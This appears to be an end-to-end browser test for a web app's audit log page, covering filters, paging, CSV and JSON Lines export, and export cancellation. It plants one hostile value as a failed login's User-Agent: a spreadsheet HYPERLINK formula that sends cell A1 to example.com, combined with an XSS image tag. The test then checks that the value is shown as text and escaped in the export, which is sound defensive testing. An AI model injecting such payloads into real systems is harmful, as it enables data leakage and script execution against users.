import { readFileSync } from 'node:fs'
import { expect, it } from 'vitest'
import { accessTokenOf, arrive, asUser, inBrowser, type Person, service, signUp } from './stage.ts'
import { patience, type Visitor } from './visitor.ts'

/** What a sign-in that is refused says of its program. */
const formula = '=HYPERLINK("http://example.com/?"&A1,"<img src=x onerror=alert(1)>")'

let visitor: Visitor
let person: Person

/** Somebody whose log has more entries than a page of the export, and one with hostile texts. */
async function fill(): Promise<void> {
  visitor = await arrive()
  person = await signUp(visitor)
  const refused = await fetch(`${service.url}/v1/auth/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'User-Agent': formula },
    body: JSON.stringify({ email: person.email, password: 'not the password' }),
  })
  expect(refused.status).toBe(401)
  const token = await accessTokenOf(person)
  const { organizations } = (await (await asUser(token, 'GET', '/v1/organizations')).json()) as {
    organizations: { id: string }[]
  }
  for (let n = 0; n < 205; n++) {
    const path = `/v1/organizations/${organizations[0]?.id}`
    expect((await asUser(token, 'PATCH', path, { name: `Name ${n}` })).status).toBe(200)
  }
}

inBrowser('the audit log', () => {
  it('is filtered and paged by its address, shows hostile texts as texts, and is exported whole', async () => {
    await fill()
    const { page } = visitor
    const rows = page.getByRole('table', { name: 'Audit log' }).getByRole('row')
    await visitor.go('/audit')
    await visitor.see('{"name":"Name 204"}')
    await expect.poll(() => rows.count(), { timeout: patience }).toBe(51)
    await visitor.press('Next page', 'link')
    await visitor.see('{"name":"Name 150"}')
    expect(visitor.path).toBe('/audit?page=2')
    await page.reload()
    await visitor.see('{"name":"Name 150"}')

    await visitor.field('What was done').selectOption('Sign-in refused')
    await visitor.field('Outcome').selectOption('Failed')
    await visitor.field('Email address of who did it').fill(person.email.toUpperCase())
    await visitor.field('Not before').fill('2020-01-01T00:00:01')
    await visitor.press('Show', 'button')
    await visitor.see(formula)
    await expect.poll(() => rows.count(), { timeout: patience }).toBe(2)
    expect(await page.locator('main img, main script').count()).toBe(0)
    const { searchParams } = new URL(page.url())
    expect(Object.fromEntries(searchParams)).toEqual({
      action: 'login_failed',
      success: 'false',
      actor_email: person.email.toUpperCase(),
      since: expect.stringMatching(/^20(19|20)-.*Z$/),
    })
    await page.reload()
    await visitor.see(formula)
    expect(await visitor.field('Outcome').inputValue()).toBe('false')
    expect(await visitor.field('Not before').inputValue()).toBe('2020-01-01T00:00:01')

    const save = async (name: string) => {
      const saving = page.waitForEvent('download')
      await visitor.press(name)
      const file = await saving
      return { name: file.suggestedFilename(), text: readFileSync(await file.path(), 'utf8') }
    }
    const csv = await save('Export as CSV')
    expect(csv.name).toMatch(/^audit-log-\d{4}-\d\d-\d\d\.csv$/)
    const lines = csv.text.trimEnd().split('\r\n')
    expect(lines).toHaveLength(2)
    expect(lines[1]).toContain(`,"'${formula.replaceAll('"', '""')}",`)
    await visitor.see('1 entry saved')

    await visitor.go('/audit?action=organization_updated')
    const jsonl = await save('Export as JSON Lines')
    const names = jsonl.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).details.name)
    expect(names).toEqual(Array.from({ length: 205 }, (_, n) => `Name ${204 - n}`))
    await visitor.see('205 entries saved')

    await visitor.field('What was done').selectOption('Webhook made')
    await visitor.press('Show', 'button')
    await visitor.see('Nothing of this kind was done.')
    await visitor.press('Show everything', 'link')
    await visitor.see('{"name":"Name 204"}')
    expect(visitor.path).toBe('/audit')
    await visitor.field('Email address of who did it').fill('somebody')
    await visitor.press('Show everything', 'link')
    await expect
      .poll(() => visitor.field('Email address of who did it').inputValue(), { timeout: patience })
      .toBe('')

    // The second page of the log does not come: it is given up.
    await page.route(/audit-log.*until=/, () => {})
    await visitor.press('Export as CSV')
    await visitor.see('200 entries read')
    await visitor.press('Cancel')
    await visitor.see('The export was stopped. Nothing was saved.')
    await page.unroute(/audit-log.*until=/)
    await visitor.press('Export as CSV')
    await visitor.see(/^2\d\d entries saved$/)
  })
})
